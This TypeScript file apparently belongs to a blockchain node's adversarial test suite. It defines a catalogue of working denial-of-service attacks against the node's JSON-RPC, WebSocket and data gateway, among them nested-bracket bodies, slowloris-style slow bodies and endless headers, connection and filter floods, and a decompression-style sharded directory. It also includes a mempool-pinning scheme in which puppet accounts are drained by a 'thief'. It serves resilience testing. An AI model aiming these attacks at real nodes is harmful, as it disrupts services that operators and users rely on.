import { createHash, randomBytes } from "node:crypto";
import { request as httpRequest } from "node:http";
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";
import { CID } from "multiformats/cid";
import { create as digestOf } from "multiformats/hashes/digest";
import { WebSocket } from "ws";
import { signTransaction } from "../../chain/transaction.ts";
import { concat, EMPTY, toHex, utf8 } from "../../lib/bytes.ts";
import { keccak256Bytes } from "../../lib/keccak.ts";
import { dataProtocol } from "../../p2p/data/serve.ts";
import { encodeAbi } from "../../vm/abi.ts";
import { type Attack, type Attacks, fresh, type World } from "./attack.ts";
import { unfunded } from "./gossip-attacks.ts";
import { frame, sendOn, serveFalsely } from "./wire.ts";

const MIB = 1024 * 1024;
type Account = World["accounts"][number];
const JSON_TYPE = { "content-type": "application/json" };

/** Posts a body to the first target and counts what it is answered; the answer is read and dropped. */
const post = async (world: World, body: string | Uint8Array<ArrayBuffer>): Promise<void> => {
  try {
    const signal = AbortSignal.any([world.signal, AbortSignal.timeout(10_000)]);
    const answer = await fetch(world.target.rpcUrl, { method: "POST", headers: JSON_TYPE, body, signal });
    world.count(`HTTP ${answer.status}`);
    await answer.arrayBuffer();
  } catch (error) {
    world.count(error instanceof TypeError ? "reset" : "no answer");
  }
};

/** Posts one body again and again, some at a time. */
const posts = (
  about: string,
  perSecond: number,
  makeBody: (n: number) => string,
  more: Partial<Attack> = {},
): Attack => ({
  about,
  perSecond,
  out: false,
  ...more,
  async *steps(world) {
    const waiting = new Set<Promise<void>>();
    for (let n = 0; ; n++) {
      const work = post(world, makeBody(n)).finally(() => waiting.delete(work));
      waiting.add(work);
      if (waiting.size >= 8) await Promise.race(waiting);
      yield;
    }
  },
});

/** A raw connection to the first target's RPC, closed with the attack. */
const rawSocket = (world: World): Socket => {
  const socket = connect(Number(new URL(world.target.rpcUrl).port), "127.0.0.1");
  socket.on("error", () => world.count("reset"));
  socket.on("close", () => world.count("closed"));
  world.onEnd(() => socket.destroy());
  return socket;
};

const head = (length: number | undefined, path = "/", type = "application/json"): string =>
  `POST ${path} HTTP/1.1\r\nhost: localhost\r\ncontent-type: ${type}\r\n${
    length === undefined ? "transfer-encoding: chunked" : `content-length: ${length}`
  }\r\n\r\n`;

const call = (id: number, method: string, params: unknown[]) => ({ jsonrpc: "2.0", id, method, params });

/** Opens a WebSocket that is never read after its first words. */
const deafSocket = async (world: World, words: readonly string[]): Promise<void> => {
  const socket = new WebSocket(world.target.rpcUrl.replace("http", "ws"));
  world.onEnd(() => socket.terminate());
  await new Promise<void>((resolve) => {
    socket.once("open", () => {
      world.count("opened");
      for (const each of words) socket.send(each);
      socket.pause();
      resolve();
    });
    socket.once("error", () => {
      world.count("refused");
      resolve();
    });
    socket.once("close", () => world.count("closed"));
  });
};

/** A field of a protobuf: bytes, or a number. */
const field = (number: number, value: Uint8Array | number): Uint8Array => {
  const varint = (n: number): number[] => (n < 128 ? [n] : [(n % 128) + 128, ...varint(Math.floor(n / 128))]);
  return typeof value === "number"
    ? Uint8Array.from([number * 8, ...varint(value)])
    : Buffer.concat([Uint8Array.from([number * 8 + 2, ...varint(value.length)]), value]);
};

/** Two blocks that stand for 900 million entries: a shard names another 30,000 times, which has 30,000 names. */
const shardedTree = () => {
  const LINKS = 30_000;
  const HAMT_SHARD = 5;
  const put = (bytes: Uint8Array, code = 0x70) => ({
    cid: CID.createV1(code, digestOf(0x12, createHash("sha256").update(bytes).digest())),
    bytes,
  });
  const unixfs = Buffer.concat([field(1, HAMT_SHARD), field(2, new Uint8Array(32)), field(5, 0x22), field(6, 256)]);
  const shard = (names: readonly string[], to: CID) => {
    const link = (name: string) => Buffer.concat([field(1, to.bytes), field(2, utf8(name)), field(3, 0)]);
    return put(Buffer.concat([...names.map((name) => field(2, link(name))), field(1, unixfs)]));
  };
  const leaf = put(randomBytes(8), 0x55);
  const child = shard(
    Array.from({ length: LINKS }, (_, i) => `00${i.toString(36).padStart(4, "0")}`),
    leaf.cid,
  );
  const root = shard(
    Array.from({ length: LINKS }, () => "00"),
    child.cid,
  );
  return { root, blocks: [root, child, leaf] };
};

const TOKEN = "0x0000000000000000000000000000000000001005" as const;
const ask = (signature: string, types: string, values: readonly unknown[]): Uint8Array =>
  concat(keccak256Bytes(utf8(signature)).subarray(0, 4), encodeAbi(types, values as never));

/**
 * Puppets let a thief take their money, fill the pool with what pays three times as much as others and asks for so much gas that
 * a block holds one of them, and have their money taken.
 */
async function* pin(world: World): AsyncGenerator<void, void> {
  const [thief, ...puppets] = world.accounts as [Account, ...Account[]];
  const sign = (
    from: Account,
    nonce: number,
    gwei: readonly [fee: number, tip: number],
    gasLimit: number,
    data?: Uint8Array,
  ) =>
    signTransaction(
      {
        type: 2,
        chainId: world.genesis.chainId,
        nonce,
        maxFeePerGas: BigInt(gwei[0]) * 10n ** 9n,
        maxPriorityFeePerGas: BigInt(gwei[1]) * 10n ** 9n,
        gasLimit,
        to: data ? TOKEN : thief.address,
        value: 0n,
        data: data ?? EMPTY,
        accessList: [],
      },
      from.privateKey,
    ).raw;
  const send = async (list: readonly Uint8Array[]): Promise<void> => {
    const answers = await world.client.batch(
      list.map((raw) => ({ method: "eth_sendRawTransaction", params: [toHex(raw)] })),
    );
    for (const each of answers)
      world.count(typeof each === "string" ? "kept" : String((each as Error).message).slice(0, 40));
  };
  const nonceOf = async ({ address }: Account) =>
    Number(await world.client.call("eth_getTransactionCount", [address, "latest"]));
  const approve = ask("approve(address,uint256)", "address,uint256", [thief.address, 2n ** 255n]);
  const first = await Promise.all(puppets.map(nonceOf));
  await send(puppets.map((puppet, i) => sign(puppet, first[i]!, [50, 1], 100_000, approve)));
  for (let i = 0; i < 40 && (await nonceOf(puppets.at(-1)!)) === first.at(-1); i++) await sleep(200);
  for (let n = 1; n <= 11_000; n += 1_000)
    for (const [i, puppet] of puppets.entries()) {
      await send(Array.from({ length: 1_000 }, (_, k) => sign(puppet, first[i]! + n + k, [3, 0], 300_000_000)));
      yield;
    }
  const nonce = await nonceOf(thief);
  const takes = puppets.map(async (puppet, i) => {
    const balance = BigInt((await world.client.call("eth_getBalance", [puppet.address, "latest"])) as string);
    const all = [puppet.address, thief.address, balance / 10n ** 9n - 10n ** 9n];
    return sign(
      thief,
      nonce + i,
      [200, 50],
      300_000,
      ask("transferFrom(address,address,uint256)", "address,address,uint256", all),
    );
  });
  await send(await Promise.all(takes));
  world.count("money taken");
  yield;
}

export const CLIENT_ATTACKS: Attacks = {
  "json-deep": posts("bodies of 2.6 million brackets", 4, () => `${"[".repeat(2_600_000)}${"]".repeat(2_600_000)}`),
  "json-flat": posts("bodies of 5 MB of empty objects", 4, () => `[${"{},".repeat(1_700_000)}{}]`),
  "json-nested-params": posts("a call whose params are nested a million deep", 4, (n) =>
    JSON.stringify(call(n, "eth_call", ["@"])).replace('"@"', `${"[".repeat(1_000_000)}${"]".repeat(1_000_000)}`),
  ),
  "json-websocket": {
    about: "the same brackets by WebSocket",
    perSecond: 4,
    out: false,
    async *steps(world) {
      const body = `${"[".repeat(2_600_000)}${"]".repeat(2_600_000)}`;
      for (;;) {
        await deafSocket(world, [body]);
        yield;
      }
    },
  },
  "ids-giant": posts("ids of a megabyte, of a million digits, and objects for ids", 6, (n) => {
    const id = [`"${"x".repeat(MIB)}"`, "9".repeat(1_000_000), `{"a":"${"y".repeat(MIB)}"}`][n % 3];
    return `{"jsonrpc":"2.0","id":${id},"method":"eth_chainId","params":[]}`;
  }),
  "methods-wrong": posts("batches of a thousand methods that are none", 20, () =>
    JSON.stringify(Array.from({ length: 1_000 }, (_, i) => call(i, `no_${"m".repeat(200)}${i}`, [{ a: 1 }]))),
  ),
  "logs-everything": posts(
    "batches of a hundred eth_getLogs over the whole chain",
    10,
    () =>
      JSON.stringify(
        Array.from({ length: 100 }, (_, i) => call(i, "eth_getLogs", [{ fromBlock: "0x0", toBlock: "latest" }])),
      ),
    { needs: "large blocks" },
  ),
  "calls-dear": posts("batches of a thousand eth_call and eth_estimateGas of the token", 10, () =>
    JSON.stringify(
      Array.from({ length: 1_000 }, (_, i) =>
        call(i, i % 2 === 0 ? "eth_call" : "eth_estimateGas", [
          { to: TOKEN, data: `0x70a08231${"00".repeat(31)}${(i % 256).toString(16).padStart(2, "0")}` },
        ]),
      ),
    ),
  ),
  "filters-flood": posts("batches of a thousand new filters", 10, () =>
    JSON.stringify(
      Array.from({ length: 1_000 }, (_, i) =>
        call(i, "eth_newFilter", [{ topics: [Array.from({ length: 8 }, () => toHex(randomBytes(32)))] }]),
      ),
    ),
  ),
  "transactions-raw": posts("batches of a thousand transactions of accounts that have nothing", 3, () => {
    const raw = Array.from({ length: 1_000 }, (_, i) => call(i, "eth_sendRawTransaction", [toHex(rawUnfunded(i))]));
    return JSON.stringify(raw);
  }),
  "transactions-pinned": {
    about: "55,000 transactions of accounts whose money another account then takes, so that no block can hold them",
    perSecond: 10,
    out: false,
    steps: pin,
  },
  "batch-unread": {
    about: "batches whose answers are 25 MB, that nobody reads",
    perSecond: 10,
    max: 100,
    out: false,
    needs: "large blocks",
    async *steps(world) {
      const body = JSON.stringify(
        Array.from({ length: 1_000 }, (_, i) =>
          call(i, "eth_getBlockByNumber", [`0x${(2 + (i % 30)).toString(16)}`, true]),
        ),
      );
      for (;;) {
        const socket = rawSocket(world);
        socket.pause();
        socket.write(head(body.length) + body);
        world.count("asked");
        yield;
      }
    },
  },
  "pipelined-unread": {
    about: "thousands of requests on each of some connections, whose answers nobody reads",
    perSecond: 20,
    out: false,
    async *steps(world) {
      const body = JSON.stringify(call(1, "eth_getBlockByNumber", ["latest", true]));
      const sockets = Array.from({ length: 20 }, () => rawSocket(world));
      for (const socket of sockets) socket.pause();
      for (let n = 0; ; n++) {
        const socket = sockets[n % sockets.length]!;
        if (socket.writable && socket.writableLength < MIB) socket.write((head(body.length) + body).repeat(500));
        yield;
      }
    },
  },
  "websockets-unread": {
    about: "WebSockets with all subscriptions, and batches asked on them, that nobody reads",
    perSecond: 10,
    max: 200,
    out: false,
    async *steps(world) {
      const topics: unknown[][] = [["newHeads"], ["newPendingTransactions", true], ["logs", {}]];
      const subscribe = Array.from({ length: 100 }, (_, i) => call(i, "eth_subscribe", topics[i % 3]!));
      const ask = Array.from({ length: 500 }, (_, i) => call(i, "eth_getBlockByNumber", ["latest", true]));
      for (;;) {
        await deafSocket(world, [JSON.stringify(subscribe), ...Array.from({ length: 10 }, () => JSON.stringify(ask))]);
        yield;
      }
    },
  },
  "bodies-slow": {
    about: "many requests whose bodies come a byte a second",
    perSecond: 50,
    max: 600,
    out: false,
    async *steps(world) {
      for (;;) {
        const socket = rawSocket(world);
        socket.write(head(5_000_000));
        const timer = setInterval(() => socket.writable && socket.write("["), 1_000);
        world.onEnd(() => clearInterval(timer));
        yield;
      }
    },
  },
  "headers-endless": {
    about: "headers that never end, fast and slow",
    perSecond: 50,
    max: 600,
    out: false,
    async *steps(world) {
      for (let n = 0; ; n++) {
        const socket = rawSocket(world);
        socket.write("POST / HTTP/1.1\r\nhost: localhost\r\n");
        const line = `x-${"a".repeat(n % 2 === 0 ? 1 : 4_000)}: b\r\n`;
        const timer = setInterval(() => socket.writable && socket.write(line), 500);
        world.onEnd(() => clearInterval(timer));
        yield;
      }
    },
  },
  "connections-idle": {
    about: "connections without a word, as many as there may be",
    perSecond: 200,
    max: 1_200,
    out: false,
    async *steps(world) {
      for (;;) {
        rawSocket(world).once("connect", () => world.count("connected"));
        yield;
      }
    },
  },
  "uploads-endless": {
    about: "uploads of data that do not end, fast and slow",
    perSecond: 40,
    out: false,
    async *steps(world) {
      const chunk = randomBytes(256 * 1024);
      const open = () => {
        const upload = httpRequest(`${world.target.rpcUrl}/data`, {
          method: "POST",
          headers: { "content-type": "application/octet-stream" },
        });
        upload.on("error", () => world.count("reset"));
        upload.on("response", (answer) => {
          world.count(`HTTP ${answer.statusCode}`);
          answer.resume();
        });
        world.onEnd(() => upload.destroy());
        return upload;
      };
      const uploads = Array.from({ length: 12 }, open);
      for (let n = 0; ; n++) {
        const i = n % uploads.length;
        if (uploads[i]!.destroyed) uploads[i] = open();
        // Half of them are slow.
        else if (uploads[i]!.writableLength < MIB) uploads[i]!.write(i % 2 === 0 ? chunk : chunk.subarray(0, 1));
        yield;
      }
    },
  },
  "directory-sharded": {
    about: "a directory of two blocks that stands for 900 million entries, asked for at the gateway",
    perSecond: 1,
    max: 10,
    out: false,
    async *steps(world) {
      for (;;) {
        const { root, blocks } = shardedTree();
        const known = new Map(blocks.map(({ cid, bytes }) => [cid.toString(), bytes]));
        await serveFalsely(world.host, dataProtocol(world.genesisHash), async (request, stream) => {
          const { has, want } = request as { has?: Uint8Array[]; want?: Uint8Array[] };
          const of = (cid: Uint8Array) => known.get(CID.decode(new Uint8Array(cid)).toString()) ?? null;
          world.count(has ? "has" : "want");
          sendOn(stream, frame(has ? has.map((cid) => of(cid) !== null) : want!.map(of)));
          await stream.close();
        });
        const signal = AbortSignal.any([world.signal, AbortSignal.timeout(20_000)]);
        fetch(`${world.target.rpcUrl}/ipfs/${root.cid}`, { signal }).then(
          (answer) => world.count(`HTTP ${answer.status}`),
          () => world.count("no answer"),
        );
        yield;
      }
    },
  },
};

/** A few thousand worthless transactions, signed once: senders are recovered anew in each batch. */
const ready: Uint8Array[] = [];
const rawUnfunded = (i: number): Uint8Array => {
  const world = { genesis: { chainId: 77_216 } } as World;
  if (ready.length < 3_000) ready.push(unfunded(world));
  return ready[(fresh() + i) % ready.length]!;
};
